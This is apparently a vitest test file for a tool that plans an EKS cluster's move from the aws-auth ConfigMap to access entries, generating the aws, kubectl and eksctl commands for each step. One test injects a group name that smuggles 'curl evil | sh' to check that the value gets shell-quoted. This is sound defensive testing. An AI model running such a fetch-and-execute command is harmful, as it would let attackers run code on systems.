import { describe, expect, it } from 'vitest';
import { awsAuthMigration } from '../../../shared/access/aws-auth-migration.ts';
import { UnreadFact } from '../../../shared/assess/facts.ts';
import type { AwsAuthMappings, AwsAuthRole, AwsAuthUser } from '../../../shared/model/aws-auth.ts';
import type { MigrationPlan } from '../../../shared/model/aws-auth-migration.ts';
import { factKeys } from '../../../shared/model/fact-key.ts';
import {
  awsAuth,
  principals,
  rbacFacts,
  roleLine,
  ssoLine,
  userLine,
} from '../../support/aws-auth.ts';
import { cluster } from '../../support/eks.ts';
import { denied, factsFrom, gone, type KnownFact, known } from '../../support/facts.ts';
import { trusting } from '../../support/policies.ts';
import { clusterRoleBinding, user } from '../../support/rbac.ts';

const payments = { region: 'eu-west-1', name: 'payments' };
const iam = 'arn:aws:iam::012345678901';
const ci = `${iam}:role/ci`;
const node = `${iam}:role/node`;
const sso = `${iam}:role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_Dev_0123456789abcdef`;
const everyone = principals(ci, node, sso, `${iam}:role/team/deploy`, `${iam}:user/ines`);

describe('a line for people or machines', () => {
  it('is carried with its groups and its username', () => {
    expect(
      oneLine(roleLine(ci, { username: 'ci', groups: ['deployers', 'readers'] })),
    ).toStrictEqual({
      outcome: 'CARRIED',
      reasons: [],
      entries: [standard(ci, ['deployers', 'readers'], 'ci')],
    });
  });

  it('leaves out what everybody has: system:authenticated, and the username that EKS would choose', () => {
    const username = 'arn:aws:sts::012345678901:assumed-role/ci/{{SessionName}}';
    expect(
      oneLine(roleLine(ci, { username, groups: ['readers', 'system:authenticated'] })),
    ).toStrictEqual({
      outcome: 'CARRIED',
      reasons: [],
      entries: [standard(ci, ['readers'])],
    });
  });

  it('of a user is carried', () => {
    const ines = `${iam}:user/ines`;
    expect(oneLine(userLine(ines, { username: 'ines', groups: ['readers'] }))).toStrictEqual({
      outcome: 'CARRIED',
      reasons: [],
      entries: [standard(ines, ['readers'], 'ines')],
    });
  });

  it('gets the path and the case that IAM has, which aws-auth does not know', () => {
    expect(oneLine(roleLine(`${iam}:role/DEPLOY`, { groups: ['readers'] })).entries).toStrictEqual([
      standard(`${iam}:role/team/deploy`, ['readers']),
    ]);
  });

  it('of another account is carried as it is written, and the path has to be asked for', () => {
    const other = 'arn:aws:iam::999988887777:role/ops';
    expect(oneLine(roleLine(other, { groups: ['readers'] }))).toStrictEqual({
      outcome: 'CARRIED',
      reasons: [
        'its account is not watched: ask there for the ARN with its path, which the entry needs and aws-auth leaves out',
      ],
      entries: [standard(other, ['readers'])],
    });
  });
});

describe('system:masters', () => {
  it('is a decision, with its other groups, and nothing is done until somebody takes it', () => {
    const { outcome, reasons, entries } = oneLine(
      roleLine(ci, { groups: ['system:masters', 'readers'] }),
    );
    expect({ outcome, entries }).toStrictEqual({
      outcome: 'DECISION',
      entries: [
        {
          ...standard(ci, ['readers']),
          decision: {
            name: `cluster-admin ${ci}`,
            policyArn: 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy',
          },
        },
      ],
    });
    expect(reasons).toStrictEqual([expect.stringMatching(/^system:masters is not carried/)]);
    expect(
      waiting(planOf({ roles: [roleLine(ci, { groups: ['system:masters'] })] })),
    ).toStrictEqual([
      [`Create the entry of ${ci}`, `the decision “cluster-admin ${ci}”`],
      [
        `Take mapRoles[0], ${ci}, out of aws-auth`,
        `the decision “cluster-admin ${ci}”, and a login by its entry`,
      ],
      ['Honour access entries alone', `the decision “cluster-admin ${ci}”`],
    ]);
  });
});

describe('a group', () => {
  it.each([
    ['team-{{SessionName}}', 'entries have no templates in groups'],
    ['system:node-proxier', reservedPrefix()],
    ['eks:kube-proxy-windows', reservedPrefix()],
    ['aws:admins', reservedPrefix()],
    ['amazon:admins', reservedPrefix()],
    ['iam:admins', reservedPrefix()],
    ['', 'it has no name'],
  ])('%j is not carried, and the others are', (group, why) => {
    expect(oneLine(roleLine(ci, { groups: ['readers', group] }))).toStrictEqual({
      outcome: 'NARROWED',
      reasons: [`group ${group} is not carried: ${why}`],
      entries: [standard(ci, ['readers'])],
    });
  });

  it('that begins like a reserved one but for the colon is carried', () => {
    expect(oneLine(roleLine(ci, { groups: ['systems', 'eks-admins'] })).outcome).toBe('CARRIED');
  });

  it('leaves the line where it is, if there is no other', () => {
    expect(oneLine(roleLine(ci, { groups: ['team-{{SessionName}}'] }))).toStrictEqual({
      outcome: 'LEFT',
      reasons: [
        'group team-{{SessionName}} is not carried: entries have no templates in groups',
        'an entry would give none of its groups',
      ],
      entries: [],
    });
  });
});

describe('a username', () => {
  it.each([
    ['ci:{{SessionName}}', 'ci:{{SessionName}}'],
    ['ci:{{SessionNameRaw}}', 'ci:{{SessionNameRaw}}'],
    ['{{AccountID}}:ci', '012345678901:ci'],
  ])('%s is carried as %s', (username, carried) => {
    expect(oneLine(roleLine(ci, { username, groups: ['readers'] }))).toStrictEqual({
      outcome: 'CARRIED',
      reasons: [],
      entries: [standard(ci, ['readers'], carried)],
    });
  });

  it.each([
    ['{{SessionName}}', 'entries need a colon before the session name'],
    ['ci-{{SessionName}}:x', 'entries need a colon before the session name'],
    ['ci:{{AccessKeyID}}', 'entries have no template {{AccessKeyID}}'],
    ['ci:{{Session}}', 'it has braces that are no template'],
    ['system:ci', 'EKS keeps the prefix for itself'],
    ['iam:ci', 'EKS keeps the prefix for itself'],
    ['file://ci', 'the AWS CLI would read it from elsewhere'],
  ])('%s is not carried', (username, why) => {
    const usual = 'arn:aws:sts::012345678901:assumed-role/ci/{{SessionName}}';
    expect(oneLine(roleLine(ci, { username, groups: ['readers'] }))).toStrictEqual({
      outcome: 'NARROWED',
      reasons: [`username ${username} is not carried, EKS calls it ${usual}: ${why}`],
      entries: [standard(ci, ['readers'])],
    });
  });

  it('that is not carried is told with the users whom bindings name by it', () => {
    const bindings = {
      clusterRoleBindings: [
        clusterRoleBinding('b', 'view', user('marta'), user('system:x'), user('ana')),
      ],
    };
    const plan = planOf(
      { roles: [roleLine(ci, { username: '{{SessionName}}', groups: ['readers'] })] },
      rbacFacts(bindings),
    );
    expect(plan.lines[0]?.reasons[1]).toBe('bindings name user ana, marta, and will not mean it');
  });

  it('of a user has no session name', () => {
    const ines = `${iam}:user/ines`;
    expect(oneLine(userLine(ines, { username: 'ines{{SessionName}}' })).entries).toStrictEqual([
      standard(ines, [], 'ines'),
    ]);
  });
});

describe('a line for nodes', () => {
  const nodes = ['system:bootstrappers', 'system:nodes'];
  const username = 'system:node:{{EC2PrivateDNSName}}';

  it.each([
    ['EC2_LINUX', ['ec2.amazonaws.com'], nodes],
    ['EC2_WINDOWS', ['ec2.amazonaws.com'], [...nodes, 'eks:kube-proxy-windows']],
    ['FARGATE_LINUX', ['eks-fargate-pods.amazonaws.com'], [...nodes, 'system:node-proxier']],
    ['FARGATE_LINUX', ['eks-fargate-pods.amazonaws.com'], nodes],
    [
      'FARGATE_LINUX',
      ['ec2.amazonaws.com', 'eks-fargate-pods.amazonaws.com'],
      [...nodes, 'system:node-proxier'],
    ],
    ['EC2_LINUX', ['ec2.amazonaws.com', 'eks-fargate-pods.amazonaws.com'], nodes],
    ['HYBRID_LINUX', ['ssm.amazonaws.com'], nodes],
    ['EC2_LINUX', ['ec2.amazonaws.com.cn'], nodes],
  ])('becomes an entry of type %s, trusted by %j in groups %j', (type, Service, groups) => {
    expect(oneLine(roleLine(node, { username, groups }), trusted({ Service }))).toStrictEqual({
      outcome: 'CARRIED',
      reasons: [],
      entries: [{ principalArn: node, type, kubernetesGroups: [] }],
    });
  });

  it('needs no username, and is in system:authenticated anyway', () => {
    const line = roleLine(node, { groups: [...nodes, 'system:authenticated'] });
    expect(oneLine(line, trusted({ Service: ['ec2.amazonaws.com'] }))).toStrictEqual({
      outcome: 'CARRIED',
      reasons: [],
      entries: [{ principalArn: node, type: 'EC2_LINUX', kubernetesGroups: [] }],
    });
  });

  it('loses the group of nodes of another type', () => {
    const line = roleLine(node, { groups: [...nodes, 'system:node-proxier'] });
    expect(oneLine(line, trusted({ Service: ['ec2.amazonaws.com'] })).reasons).toStrictEqual([
      'group system:node-proxier is not carried: entries of type EC2_LINUX have no groups of one’s own',
    ]);
  });

  it('loses groups of its own', () => {
    const line = roleLine(node, { username: 'node', groups: [...nodes, 'system:masters', 'ops'] });
    expect(oneLine(line, trusted({ Service: ['ec2.amazonaws.com'] }))).toStrictEqual({
      outcome: 'NARROWED',
      reasons: [
        'group system:masters is not carried: entries of type EC2_LINUX have no groups of one’s own',
        'group ops is not carried: entries of type EC2_LINUX have no groups of one’s own',
        'username node is not carried: EKS names nodes',
      ],
      entries: [{ principalArn: node, type: 'EC2_LINUX', kubernetesGroups: [] }],
    });
  });

  it('of a role that has no trust policy is left', () => {
    const line = roleLine(node, { groups: nodes });
    expect(oneLine(line, [gone(factKeys.trustPolicy(node))]).outcome).toBe('LEFT');
  });

  it('of a role that no node has is left', () => {
    const line = roleLine(node, { groups: nodes });
    expect(oneLine(line, trusted({ AWS: [`${iam}:root`] }))).toStrictEqual({
      outcome: 'LEFT',
      reasons: [
        'it enters as a node, and no service that runs nodes may assume it; give it groups of its own',
      ],
      entries: [],
    });
  });

  it.each([
    [`${iam}:user/ines`, 'entries for nodes are for roles'],
    [
      'arn:aws:iam::999988887777:role/node',
      'entries for nodes are for roles of the account of the cluster',
    ],
  ])('of %s is left', (arn, why) => {
    const { outcome, reasons } = oneLine(roleLine(arn, { groups: nodes }));
    expect({ outcome, reasons }).toStrictEqual({ outcome: 'LEFT', reasons: [why] });
  });

  it('is undecided where the trust policy is unread', () => {
    expect(oneLine(roleLine(node, { groups: nodes }))).toStrictEqual({
      outcome: 'UNDECIDED',
      reasons: [`the trust policy of ${node} was not read, so its type is not known`],
      entries: [],
    });
  });
});

describe('a line that lets in nobody', () => {
  it.each([
    ['a path', `${iam}:role/team/deploy`, 'roles are looked up without their path'],
    [
      'a session',
      'arn:aws:sts::012345678901:assumed-role/ci/x',
      'a session is looked up by its role, arn:…:iam::…:role/NAME',
    ],
    ['no ARN', 'ci', 'it is not an ARN'],
  ])('by %s is dead, and an entry would be a new grant', (_, arn, why) => {
    expect(oneLine(roleLine(arn, { groups: ['readers'] }))).toStrictEqual({
      outcome: 'DEAD',
      reasons: [`it never let in anybody: ${why}; an entry would be a new grant`],
      entries: [],
    });
  });

  it('because there is no such role is dead', () => {
    expect(oneLine(roleLine(`${iam}:role/gone`, { groups: ['readers'] }))).toStrictEqual({
      outcome: 'DEAD',
      reasons: [
        'nobody has such an ARN, and whoever makes a role or user of that name is let in; EKS makes no entry for it',
      ],
      entries: [],
    });
  });

  it('because a later one has its ARN is dead, and the later one counts', () => {
    const plan = planOf({
      roles: [roleLine(ci, { groups: ['a'] }, 0), roleLine(ci.toUpperCase(), { groups: ['b'] }, 1)],
    });
    expect(plan.lines.map(({ outcome, reasons }) => [outcome, reasons])).toStrictEqual([
      ['DEAD', ['the entry 1 of the key has the same ARN and counts']],
      ['CARRIED', []],
    ]);
    expect(plan.entries).toStrictEqual([standard(ci, ['b'])]);
  });

  it('because roles are looked up first is dead', () => {
    const ines = `${iam}:user/ines`;
    const plan = planOf({
      roles: [roleLine(ines, { groups: ['a'] })],
      users: [userLine(ines, { groups: ['b'] })],
    });
    expect(plan.entries).toStrictEqual([standard(ines, ['a'])]);
    expect(plan.lines[1]).toStrictEqual({
      key: 'mapUsers',
      place: 0,
      principal: ines,
      outcome: 'DEAD',
      reasons: [`another line counts for ${ines}: ${ines}`],
    });
  });

  it('is what the authenticator drops', () => {
    const message = 'it names no role';
    const plan = planOf({
      faults: [
        { key: 'mapRoles', place: 2, message },
        { key: 'mapUsers', message },
      ],
    });
    expect(plan.lines).toStrictEqual([
      {
        key: 'mapRoles',
        place: 2,
        outcome: 'DEAD',
        reasons: [`the authenticator reads it otherwise than it is written: ${message}`],
      },
      {
        key: 'mapUsers',
        outcome: 'DEAD',
        reasons: [`the authenticator reads it otherwise than it is written: ${message}`],
      },
    ]);
  });
});

describe('a line for many', () => {
  it('by permission set gives each of its roles an entry, and none to later ones', () => {
    expect(
      oneLine(ssoLine('Dev', { username: 'dev:{{SessionName}}', groups: ['devs'] })),
    ).toStrictEqual({
      outcome: 'NARROWED',
      reasons: ['roles made later that match it get no entry'],
      entries: [standard(sso, ['devs'], 'dev:{{SessionName}}')],
    });
  });

  it('by pattern in another account is left', () => {
    expect(
      oneLine(roleLine('arn:aws:iam::999988887777:role/*', { groups: ['devs'] })),
    ).toStrictEqual({
      outcome: 'LEFT',
      reasons: [
        'it is a pattern, and which roles match it in an account that is not watched is not known',
      ],
      entries: [],
    });
  });

  it('that meets another one is left, because nobody knows which counts', () => {
    const plan = planOf({
      roles: [roleLine(ci, { groups: ['a'] }, 0), roleLine(`${iam}:role/c*`, { groups: ['b'] }, 1)],
    });
    const why = `several lines let in ${ci}, and the authenticator takes whichever it comes upon`;
    expect(plan.lines.map(({ outcome, reasons }) => [outcome, reasons[0]])).toStrictEqual([
      ['LEFT', why],
      ['LEFT', why],
    ]);
    expect(plan.entries).toStrictEqual([]);
  });

  it('of a whole account is left, with the users whom bindings name', () => {
    const bindings = {
      clusterRoleBindings: [clusterRoleBinding('b', 'view', user(node), user(ci), user('x'))],
    };
    const plan = planOf({ accounts: ['012345678901', '999988887777'] }, rbacFacts(bindings));
    const why = 'entries are for single principals, not for everybody of an account';
    expect(plan.lines.map(({ outcome, reasons }) => [outcome, reasons])).toStrictEqual([
      ['LEFT', [why, `bindings name ${ci}, ${node}: give those entries of their own`]],
      ['LEFT', [why, 'bindings name none of them']],
    ]);
  });
});

describe('a principal that no entry takes', () => {
  it.each([
    [`${iam}:root`, 'access entries are for IAM roles and users only'],
    [
      'arn:aws:sts::012345678901:federated-user/bob',
      'access entries are for IAM roles and users only',
    ],
  ])('%s is left', (arn, why) => {
    const { outcome, reasons } = oneLine(roleLine(arn, { groups: ['readers'] }));
    expect({ outcome, reasons }).toStrictEqual({ outcome: 'LEFT', reasons: [why] });
  });

  it('is a service-linked role', () => {
    const slr = `${iam}:role/aws-service-role/x.amazonaws.com/AWSServiceRoleForX`;
    const plan = planOf(
      { roles: [roleLine(`${iam}:role/AWSServiceRoleForX`, { groups: ['readers'] })] },
      principals(slr),
    );
    expect(plan.lines[0]?.reasons).toStrictEqual([
      'EKS takes no service-linked role in an entry that you make',
    ]);
  });
});

describe('a principal that has an entry', () => {
  const has = (groups: readonly string[], type = 'STANDARD') => [
    known(factKeys.accessEntries(payments), ['an odd one', ci]),
    known(factKeys.accessEntry(payments, ci), { principalArn: ci, type, kubernetesGroups: groups }),
  ];

  it('is left alone, and what the line would add is told', () => {
    expect(oneLine(roleLine(ci, { groups: ['readers', 'ops'] }), has(['readers']))).toStrictEqual({
      outcome: 'SHADOWED',
      reasons: [
        `${ci} has an entry of type STANDARD with readers`,
        'of the line, ops has been without effect since',
      ],
      entries: [],
    });
  });

  it('is told with every group of its entry, and with every one that it lacks', () => {
    const entry = has(['readers', 'writers']);
    const lacks = roleLine(ci, { groups: ['readers', 'ops', 'devs'] });
    expect(oneLine(lacks, entry).reasons).toStrictEqual([
      `${ci} has an entry of type STANDARD with readers, writers`,
      'of the line, ops, devs has been without effect since',
    ]);
    expect(oneLine(roleLine(ci, { groups: ['writers'] }), entry).reasons).toStrictEqual([
      `${ci} has an entry of type STANDARD with readers, writers`,
    ]);
  });

  it('is told with the type of its entry', () => {
    const line = roleLine(ci, { groups: ['system:nodes'] });
    expect(oneLine(line, has([], 'EC2_LINUX')).reasons).toStrictEqual([
      `${ci} has an entry of type EC2_LINUX with no groups`,
    ]);
  });

  it('counts for nothing in mode CONFIG_MAP', () => {
    const mode = known(factKeys.cluster(payments), cluster({ authenticationMode: 'CONFIG_MAP' }));
    const plan = planOf({ roles: [roleLine(ci, { groups: ['readers'] })] }, [...has([]), mode]);
    expect(plan.entries).toStrictEqual([standard(ci, ['readers'])]);
  });

  it('is told where the entry itself is unread', () => {
    const facts = [
      known(factKeys.accessEntries(payments), [ci]),
      denied(factKeys.accessEntry(payments, ci)),
    ];
    expect(oneLine(roleLine(ci), facts)).toStrictEqual({
      outcome: 'SHADOWED',
      reasons: [`${ci} has an entry, which was not read`],
      entries: [],
    });
  });
});

describe('the steps', () => {
  const line = { roles: [roleLine(ci, { groups: ['readers'] })] };
  const inMode = (authenticationMode: string) =>
    known(factKeys.cluster(payments), cluster({ authenticationMode }));

  it('go from CONFIG_MAP over both to API, and lines go last', () => {
    const { steps } = planOf(line, [inMode('CONFIG_MAP')]);
    expect(steps.map(({ title, oneWay }) => [title, oneWay !== undefined])).toStrictEqual([
      ['Keep a copy of aws-auth', false],
      ['Honour access entries beside aws-auth', true],
      [`Create the entry of ${ci}`, false],
      [`Take mapRoles[0], ${ci}, out of aws-auth`, false],
      ['Honour access entries alone', true],
    ]);
    expect(waiting({ steps })).toStrictEqual([
      [`Take mapRoles[0], ${ci}, out of aws-auth`, 'a login by its entry'],
    ]);
  });

  it('of the modes are one way, and are looked at before the next', () => {
    const { steps } = planOf(line, [inMode('CONFIG_MAP')]);
    expect(steps.filter(({ title }) => !title.includes(ci))).toStrictEqual([
      {
        title: 'Keep a copy of aws-auth',
        notes: [
          'Lines that are taken out come back from it.',
          'Have another way in at hand, such as an entry that holds AmazonEKSClusterAdminPolicy: you may be on one of the lines.',
        ],
        commands: [
          'aws eks update-kubeconfig --name payments --region eu-west-1',
          "kubectl get configmap aws-auth --namespace kube-system --output json | jq '{data}' > aws-auth.json",
        ],
        verify: ['cat aws-auth.json'],
        rollback: [],
      },
      {
        title: 'Honour access entries beside aws-auth',
        notes: [
          'Nobody loses anything by it: who has no entry is still looked up in aws-auth.',
          'Whoever created the cluster may appear among the entries, as an administrator whom no list has shown so far.',
        ],
        commands: [
          'aws eks update-cluster-config --name payments --access-config authenticationMode=API_AND_CONFIG_MAP --region eu-west-1',
        ],
        verify: [
          'aws eks wait cluster-active --name payments --region eu-west-1',
          'aws eks describe-cluster --name payments --region eu-west-1 --query cluster.accessConfig.authenticationMode',
        ],
        rollback: [],
        oneWay: 'EKS never goes back to CONFIG_MAP',
      },
      {
        title: 'Honour access entries alone',
        notes: [
          'Log in as an administrator by an entry first: from here on nothing else lets in anybody.',
          'Wait until nodes have been replaced or restarted once, and everybody has logged in by their entry.',
        ],
        commands: [
          'aws eks update-cluster-config --name payments --access-config authenticationMode=API --region eu-west-1',
        ],
        verify: [
          'aws eks wait cluster-active --name payments --region eu-west-1',
          'aws eks describe-cluster --name payments --region eu-west-1 --query cluster.accessConfig.authenticationMode',
          'kubectl get nodes',
        ],
        rollback: [],
        oneWay: 'EKS never honours aws-auth again in this cluster',
      },
    ]);
  });

  it('of an entry tell what is not carried of its own line, and what EKS may have done meanwhile', () => {
    const others = { username: 'node', groups: ['system:nodes'] };
    const { steps } = planOf(
      { roles: [roleLine(node, others), roleLine(ci, { groups: ['readers'] }, 1)] },
      trusted({ Service: ['ec2.amazonaws.com'] }),
    );
    const counts = 'From then on the entry counts and the line does not; it takes some seconds.';
    expect(steps.slice(1, 3).map(({ title, notes }) => [title, notes])).toStrictEqual([
      [
        `Create the entry of ${node}`,
        [
          'Of its line: username node is not carried: EKS names nodes.',
          counts,
          'Where EKS has made it meanwhile, for a node group or a Fargate profile of its own, create-access-entry says so, and that one will do.',
        ],
      ],
      [`Create the entry of ${ci}`, [counts]],
    ]);
    expect(steps[1]).toMatchObject({
      commands: [
        `aws eks create-access-entry --cluster-name payments --principal-arn ${node} --type EC2_LINUX --region eu-west-1`,
      ],
      verify: [
        `aws eks describe-access-entry --cluster-name payments --principal-arn ${node} --region eu-west-1`,
        'kubectl get nodes',
      ],
    });
  });

  it('of an entry with a username look at what that user may do', () => {
    const [, create] = planOf({ roles: [roleLine(ci, { username: 'ci' })] }).steps;
    expect(create?.verify[1]).toBe('kubectl auth can-i --list --as ci');
    expect(create?.commands).toStrictEqual([
      `aws eks create-access-entry --cluster-name payments --principal-arn ${ci} --username ci --region eu-west-1`,
    ]);
  });

  it('that wait for decisions come after the others', () => {
    const { steps } = planOf({
      roles: [
        roleLine(ci, { groups: ['system:masters'] }, 0),
        roleLine(`${iam}:role/deploy`, { groups: ['readers'] }, 1),
      ],
    });
    expect(steps.slice(1, 3).map(({ title }) => title)).toStrictEqual([
      `Create the entry of ${iam}:role/team/deploy`,
      `Create the entry of ${ci}`,
    ]);
  });

  it('of an entry say how to verify it and how to take it back', () => {
    const step = planOf(line).steps.find(({ title }) => title.startsWith('Create'));
    const which = `--cluster-name payments --principal-arn ${ci}`;
    expect({ ...step, notes: [] }).toStrictEqual({
      title: `Create the entry of ${ci}`,
      notes: [],
      commands: [
        `aws eks create-access-entry ${which} --kubernetes-groups '["readers"]' --region eu-west-1`,
      ],
      verify: [
        `aws eks describe-access-entry ${which} --region eu-west-1`,
        'kubectl auth can-i --list --as nobody-in-particular --as-group readers',
      ],
      rollback: [`aws eks delete-access-entry ${which} --region eu-west-1`],
    });
  });

  it('take a line out when its entry has shown to do, and bring it back from the copy', () => {
    const facts = trusted({ Service: ['ec2.amazonaws.com'] });
    const { steps } = planOf({ roles: [roleLine(node, { groups: ['system:nodes'] })] }, facts);
    expect(steps.find(({ title }) => title.startsWith('Take'))).toStrictEqual({
      title: `Take mapRoles[0], ${node}, out of aws-auth`,
      notes: ['Of lines with the same ARN it takes the first.'],
      commands: [
        `eksctl delete iamidentitymapping --cluster payments --region eu-west-1 --arn ${node}`,
      ],
      verify: ['eksctl get iamidentitymapping --cluster payments --region eu-west-1'],
      rollback: [
        'kubectl patch configmap aws-auth --namespace kube-system --type merge --patch-file aws-auth.json',
      ],
      waitsFor: 'nodes that have become ready by its entry',
    });
  });

  it('take out what is dead at once, and by hand what eksctl does not know', () => {
    const dead = { roles: [ssoLine('Gone')] };
    expect(planOf(dead).steps.find(({ title }) => title.startsWith('Take'))).toMatchObject({
      notes: ['Take out mapRoles[0]: eksctl knows no such line.'],
      commands: ['kubectl edit configmap aws-auth --namespace kube-system'],
    });
    expect(waiting(planOf(dead))).toStrictEqual([]);
  });

  it('of a decision make the entry and give it the policy', () => {
    const masters = { roles: [roleLine(ci, { groups: ['system:masters'] })] };
    const which = `--cluster-name payments --principal-arn ${ci}`;
    expect(planOf(masters).steps.find(({ title }) => title.startsWith('Create'))).toMatchObject({
      commands: [
        `aws eks create-access-entry ${which} --region eu-west-1`,
        `aws eks associate-access-policy ${which} --policy-arn arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy --access-scope type=cluster --region eu-west-1`,
      ],
      verify: [
        `aws eks describe-access-entry ${which} --region eu-west-1`,
        `aws eks list-associated-access-policies ${which} --region eu-west-1`,
      ],
    });
  });

  it('leave lines in place that get no entry, and wait for them before API', () => {
    const plan = planOf({ roles: [roleLine(`${iam}:root`)], accounts: ['999988887777'] });
    expect(waiting(plan)).toStrictEqual([
      [
        'Honour access entries alone',
        `mapRoles[0] ${iam}:root, which gets no entry; mapAccounts[0] 999988887777, which gets no entry`,
      ],
    ]);
    expect(plan.steps.filter(({ title }) => title.startsWith('Take'))).toStrictEqual([]);
  });

  it('count a cluster that tells no mode as one of CONFIG_MAP', () => {
    const { authenticationMode: _, ...old } = cluster();
    const { cluster: ref, authenticationMode } = planOf(line, [
      known(factKeys.cluster(payments), old),
    ]);
    expect({ ref, authenticationMode }).toStrictEqual({
      ref: payments,
      authenticationMode: 'CONFIG_MAP',
    });
  });

  it('in mode API are none without aws-auth', () => {
    expect(planOf({}, [inMode('API'), gone(factKeys.awsAuth(payments))]).steps).toStrictEqual([]);
  });

  it('in mode API are to delete what nobody reads, and nothing is granted anew', () => {
    const plan = planOf({ ...line, accounts: ['999988887777'] }, [inMode('API')]);
    expect(plan.steps.map(({ title }) => title)).toStrictEqual([
      'Keep a copy of aws-auth',
      'Delete aws-auth, which nobody reads',
    ]);
    expect(plan.steps[1]).toStrictEqual({
      title: 'Delete aws-auth, which nobody reads',
      notes: ['The mode is API, so that it lets in nobody.'],
      commands: ['kubectl delete configmap aws-auth --namespace kube-system'],
      verify: ['kubectl get nodes'],
      rollback: [
        'kubectl create configmap aws-auth --namespace kube-system',
        'kubectl patch configmap aws-auth --namespace kube-system --type merge --patch-file aws-auth.json',
      ],
    });
    const reasons = ['nobody reads aws-auth in mode API, so that an entry would be a new grant'];
    expect(plan.lines).toStrictEqual([
      { key: 'mapRoles', place: 0, principal: ci, outcome: 'DEAD', reasons },
      { key: 'mapAccounts', place: 0, principal: '999988887777', outcome: 'DEAD', reasons },
    ]);
    expect(plan.entries).toStrictEqual([]);
  });

  it('without aws-auth are the mode alone', () => {
    const facts = [inMode('API_AND_CONFIG_MAP'), gone(factKeys.awsAuth(payments))];
    expect(planOf({}, facts).steps.map(({ title }) => title)).toStrictEqual([
      'Honour access entries alone',
    ]);
  });

  it('quote what others have named', () => {
    const { steps } = planOf({ roles: [roleLine(ci, { groups: ["x'; curl evil | sh #"] })] });
    expect(steps[1]?.commands[0]).toContain(
      `--kubernetes-groups '["x'\\''; curl evil | sh #"]' --region`,
    );
  });
});

describe('what was not read', () => {
  it.each([
    ['aws-auth', factKeys.awsAuth(payments)],
    ['entries', factKeys.accessEntries(payments)],
    ['the cluster', factKeys.cluster(payments)],
  ])('ends it where that is %s', (_, key) => {
    expect(() => planOf({}, [denied(key)])).toThrow(UnreadFact);
  });

  it('leaves lines undecided where that is IAM', () => {
    const plan = planOf({ roles: [roleLine(ci)] }, [denied(factKeys.roles())]);
    expect(plan.lines).toStrictEqual([
      {
        key: 'mapRoles',
        place: 0,
        principal: ci,
        outcome: 'UNDECIDED',
        reasons: ['which principals IAM has was not read'],
      },
    ]);
    expect(plan.steps.map(({ title }) => title)).toStrictEqual([
      'Keep a copy of aws-auth',
      'Honour access entries alone',
    ]);
    expect(waiting(plan)).toStrictEqual([
      ['Honour access entries alone', `mapRoles[0] ${ci}, which gets no entry`],
    ]);
  });

  it('is told of bindings', () => {
    const plan = planOf(
      { roles: [roleLine(ci, { username: 'iam:ci' })], accounts: ['999988887777'] },
      [denied(factKeys.clusterRoleBindings(payments))],
    );
    expect(plan.lines.map(({ reasons }) => reasons[1])).toStrictEqual([
      'whether bindings name that user was not read',
      'whether bindings name any of them was not read',
    ]);
  });
});

it('there is no plan for a cluster that is gone', () => {
  const { facts } = factsFrom({ facts: [gone(factKeys.cluster(payments))] });
  expect(awsAuthMigration(facts, payments)).toBeUndefined();
});

/** The plan for payments, which has no entries and no RBAC and honours both unless `facts` say otherwise. */
function planOf(
  mappings: Partial<AwsAuthMappings>,
  facts: readonly KnownFact[] = [],
): MigrationPlan {
  const { facts: asked } = factsFrom({
    facts: [
      ...rbacFacts({}),
      ...everyone,
      known(factKeys.accessEntries(payments), []),
      ...facts.filter(([key]) => key !== factKeys.awsAuth(payments)),
      known(factKeys.awsAuth(payments), awsAuth(mappings).awsAuth),
      ...facts.filter(([key, fact]) => key === factKeys.awsAuth(payments) && !('value' in fact)),
    ],
  });
  return awsAuthMigration(asked, payments) ?? expect.fail('no plan');
}

function oneLine(line: AwsAuthRole | AwsAuthUser, facts: readonly KnownFact[] = []) {
  const { lines, entries } = planOf(
    'userArn' in line ? { users: [line] } : { roles: [line] },
    facts,
  );
  return { outcome: lines[0]?.outcome, reasons: lines[0]?.reasons ?? [], entries };
}

function standard(principalArn: string, kubernetesGroups: readonly string[], username?: string) {
  const named = username === undefined ? {} : { username };
  return { principalArn, type: 'STANDARD', ...named, kubernetesGroups };
}

function trusted(byType: Readonly<Record<string, readonly string[]>>): readonly KnownFact[] {
  return [known(factKeys.trustPolicy(node), { statements: [trusting(byType)] })];
}

function waiting({ steps }: Pick<MigrationPlan, 'steps'>) {
  return steps.flatMap(({ title, waitsFor }) =>
    waitsFor === undefined ? [] : [[title, waitsFor]],
  );
}

function reservedPrefix(): string {
  return 'EKS refuses the prefix in entries; bind what it needs to a group of another name';
}
